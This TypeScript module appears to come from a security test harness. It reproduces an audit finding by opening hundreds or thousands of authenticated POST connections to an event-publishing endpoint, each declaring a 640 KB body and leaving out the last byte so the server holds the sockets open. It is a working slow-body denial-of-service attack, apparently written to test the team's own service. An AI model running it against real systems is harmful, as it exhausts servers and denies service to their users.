import { holdSockets, requestHead } from './held-sockets.ts';
import { isOneUser, type OffenderKind, userOf } from './offender.ts';

/** The largest body that a publication may have. */
const BODY_BYTES = 640 * 1024;

const BODIES = { oneUser: 400, many: 1_000 };

/** 96 MB a second, more than the network of a task of one vCPU takes for long: it is what is held that counts, and not a flood. */
const PER_SECOND = 150;

/** Finding 1.8: publications whose body lacks its last byte. */
export const heldBodies: OffenderKind = {
  finding: '1.8',
  title: 'bodies of 640 KB that never end',
  start: (attack) => {
    const body = Buffer.alloc(BODY_BYTES - 1, ' ');
    return holdSockets({
      base: attack.base,
      count: isOneUser(attack) ? BODIES.oneUser : BODIES.many,
      perSecond: PER_SECOND,
      request: (index) => [
        requestHead('POST /v1/channels/noise.body/events', {
          Authorization: `Bearer ${userOf(attack, index).token}`,
          'Content-Type': 'application/json',
          'Content-Length': String(BODY_BYTES),
        }),
        body,
      ],
    });
  },
};
